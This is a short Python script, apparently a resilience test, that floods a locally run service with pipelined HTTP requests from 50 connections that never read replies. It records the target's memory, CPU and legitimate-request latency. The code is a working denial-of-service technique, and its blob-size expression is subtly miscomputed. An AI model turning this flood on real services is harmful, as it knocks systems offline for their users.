# HTTP/1.1 pipelining: 50 connections each write up to 20 MB of pipelined /v1/acquire requests
# (and gateway GETs) and never read a byte of the answers; then stay connected, trickling.
import socket, time, os, sys, threading, json, urllib.request
PORT = int(sys.argv[1]) if len(sys.argv) > 1 else 18080
PID = int(open(os.environ.get('ATTACK_LOGS', 'target/attacks') + '/sluice.pid').read())
def rss(): return int([l for l in open(f'/proc/{PID}/status') if l.startswith('VmRSS')][0].split()[1])
def cpu(): f = open(f'/proc/{PID}/stat').read().split(); return (int(f[13]) + int(f[14])) / os.sysconf('SC_CLK_TCK')
body = b'{"user":"pipe","item":"x"}'
if PORT == 18080: req = b'POST /v1/acquire HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n%s' % (len(body), body)
else: req = b'GET /pipe HTTP/1.1\r\nHost: a\r\nx-user-id: pipe\r\n\r\n'
blob = req * (1 << 20 // len(req))
written = [0] * 50; t_end = time.time() + 15
def attacker(k):
    s = socket.create_connection(('127.0.0.1', PORT)); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096); s.settimeout(2)
    try:
        while written[k] < 20 << 20 and time.time() < t_end:
            written[k] += s.send(blob)
    except Exception: pass
    time.sleep(max(0, t_end - time.time()))
    s.close()
r0, c0 = rss(), cpu()
ts = [threading.Thread(target=attacker, args=(k,)) for k in range(50)]; [t.start() for t in ts]
peak = r0; lat = []
while any(t.is_alive() for t in ts):
    peak = max(peak, rss()); t = time.time()
    try:
        urllib.request.urlopen(urllib.request.Request('http://127.0.0.1:18080/v1/acquire', data=b'{"user":"legit%d","item":"x"}' % len(lat)), timeout=5).read(); lat.append((time.time() - t) * 1000)
    except Exception as e: lat.append(99999)
    time.sleep(0.1)
lat.sort()
print(f'port {PORT}: bytes written by 50 non-reading clients {sum(written)/1e6:.1f} MB (~{sum(written)//len(req)} requests); RSS {r0} -> peak {peak} -> end {rss()} kB; CPU {cpu()-c0:.1f}s; legit acquire p50 {lat[len(lat)//2]:.1f}ms max {lat[-1]:.0f}ms n={len(lat)}')
